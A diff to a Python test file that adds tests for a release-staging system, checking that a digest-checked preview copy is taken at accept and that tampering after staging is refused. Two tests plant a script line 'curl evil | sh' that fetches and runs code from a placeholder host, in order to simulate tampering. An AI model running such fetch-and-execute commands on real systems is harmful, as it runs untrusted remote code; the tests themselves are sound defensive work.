@@ -12,6 +12,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from ocx.node.releases.links import LINKS, MOVING, STAGED, ReleaseError, Releases, release_id
+from ocx.node.releases.preview import copy_for_preview
 from ocx.node.releases.tree import TreeError, copy_tree, tree_digest
 
 
@@ -139,6 +140,7 @@ def test_accepting_the_current_release_again_stops(tmp_path):
 
 
 def test_a_release_changed_after_staging_is_refused_at_accept(tmp_path):
+    """With no copy of root's made at stage (staged by an OCX that made none), accept copies staged/."""
     releases = Releases(str(tmp_path))
     first, second = stage(tmp_path, "1"), stage(tmp_path, "2")
     releases.offer(first)
@@ -152,6 +154,47 @@ def test_a_release_changed_after_staging_is_refused_at_accept(tmp_path):
     assert not [p for p in os.listdir(tmp_path) if p.endswith(".partial")]
 
 
+def test_accept_takes_roots_copy_made_at_stage_and_staged_changes_after_it_do_not_reach_current(tmp_path):
+    """Stage made root's copy (preview/ID, digest-checked then): accept checks its digest again and
+    renames it, so staged/ is not read again and what the build user wrote there since is not current."""
+    releases = Releases(str(tmp_path))
+    release = stage(tmp_path, "1")
+    made = copy_for_preview(str(tmp_path), releases.staged(release))
+    releases.offer(release)
+    inode = os.stat(Path(made) / "lib" / "version.txt").st_ino
+    (tmp_path / STAGED / release / "bin" / "ocx").write_text("#!/bin/sh\ncurl evil | sh\n")
+    assert releases.accept() == release
+    assert os.stat(tmp_path / release / "lib" / "version.txt").st_ino == inode  # renamed, not copied again
+    assert (tmp_path / "current" / "bin" / "ocx").read_text() == "#!/bin/sh\necho 1\n"
+    assert tree_digest(str(tmp_path / release)) == releases.staged(release).digest
+    assert not os.path.exists(made)
+
+
+def test_roots_copy_changed_after_stage_is_refused_at_accept(tmp_path):
+    releases = Releases(str(tmp_path))
+    release = stage(tmp_path, "1")
+    made = copy_for_preview(str(tmp_path), releases.staged(release))
+    releases.offer(release)
+    (Path(made) / "lib" / "version.txt").write_text("2")
+    with pytest.raises(ReleaseError, match="digest: .* copy made at stage is not what was staged"):
+        releases.accept()
+    assert releases.links() == {"current": None, "previous": None, "next": release}
+    assert not (tmp_path / release).exists()
+
+
+def test_a_link_where_roots_copy_would_be_is_not_taken(tmp_path):
+    """preview/ID a link (root never makes one): accept copies out of staged/ as before, and refuses a change."""
+    releases = Releases(str(tmp_path))
+    release = stage(tmp_path, "1")
+    (tmp_path / "preview").mkdir()
+    (tmp_path / "preview" / release).symlink_to(tmp_path / STAGED / release)
+    releases.offer(release)
+    (tmp_path / STAGED / release / "bin" / "ocx").write_text("#!/bin/sh\ncurl evil | sh\n")
+    with pytest.raises(ReleaseError, match="digest: .* changed after staging"):
+        releases.accept()
+    assert releases.links()["current"] is None
+
+
 class Cut(Exception):
     """A kill at one step: nothing after it runs, nothing is cleaned up."""
 
@@ -159,14 +202,19 @@ class Cut(Exception):
 STEPS = ("copy", "copied", "intent", *LINKS, "links")
 
 
-@settings(max_examples=60, deadline=None)
-@given(kind=st.sampled_from(["accept", "rollback"]), at=st.sampled_from(STEPS), nth=st.integers(1, 2))
-def test_a_kill_at_any_step_is_found_consistent_and_the_step_can_be_done_again(tmp_path_factory, kind, at, nth):
+@settings(max_examples=80, deadline=None)
+@given(kind=st.sampled_from(["accept", "rollback"]), at=st.sampled_from(STEPS), nth=st.integers(1, 2),
+       previewed=st.booleans())
+def test_a_kill_at_any_step_is_found_consistent_and_the_step_can_be_done_again(tmp_path_factory, kind, at, nth,
+                                                                               previewed):
+    """PREVIEWED: the second release staged with root's copy (preview/ID), which accept takes."""
     root = tmp_path_factory.mktemp("releases")
     ready = Releases(str(root))
     first, second = stage(root, "1"), stage(root, "2")
     ready.offer(first)
     ready.accept()
+    if previewed:
+        copy_for_preview(str(root), ready.staged(second))
     ready.offer(second)
     if kind == "rollback":
         ready.accept()
